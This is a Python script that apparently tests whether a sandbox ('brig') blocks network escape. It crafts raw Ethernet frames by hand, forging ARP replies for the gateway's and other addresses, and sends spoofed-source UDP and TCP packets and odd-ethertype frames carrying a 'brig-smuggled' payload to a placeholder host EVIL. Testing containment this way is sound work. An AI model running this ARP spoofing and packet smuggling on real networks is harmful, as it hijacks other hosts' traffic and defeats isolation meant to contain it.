# SPDX-License-Identifier: Apache-2.0
# Trick: frames by hand: ARP and neighbour advertisements for the gate's and others'
#	addresses, packets for a denied host to the gate's hardware address
# Gain: who takes an address gets its traffic
# Fresh: yes
from trick import *

s = packets("packet socket", socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link = "h0" if BARE else "eth0"
try:
    s.bind((link, 0))
except OSError as e:
    stopped(e)
mine = s.getsockname()[4]
if BARE:
    # only what a network card would send by itself: no address is taken from the world
    them = bytes.fromhex(next(line.split()[4].replace(":", "") for line in subprocess.run(
        ["ip", "neigh"], stdout=subprocess.PIPE, text=True).stdout.splitlines() if line.startswith("11.0.0.1 ")))
    s.send(them + mine + b"\x08\0" + ipv4(EVIL, 17, udp_datagram(7, 443, b"brig-smuggled")))
    stopped("sent")
gate, all_ = b"\2brig\1", b"\xff" * 6
for claimed in (GATE, HOST, GUEST, "11.0.0.1", EVIL, "100.127.255.252"):
    arp = struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + mine + socket.inet_aton(claimed) + gate + socket.inet_aton(GATE)
    for to in (gate, all_):
        s.send(to + mine + b"\x08\x06" + arp)
for dst in (EVIL, "11.0.0.2", "10.0.0.5", "127.0.0.1", HOST):
    for src in (GUEST, "127.0.0.1", GATE, "11.0.0.2", HOST):
        for proto, data in ((17, udp_datagram(7, 443, b"brig-smuggled")), (6, tcp_segment(src, dst, 5000, 80))):
            s.send(gate + mine + b"\x08\0" + ipv4(dst, proto, data, src))
for kind in (b"\x88\x47", b"\x81\0\0\1\x08\0", b"\x88\xcc", b"\x88\x63", b"\0\4"):
    s.send(gate + mine + kind + ipv4(EVIL, 17, udp_datagram(7, 443, b"brig-smuggled")))
stopped("sent, and nothing came of it")
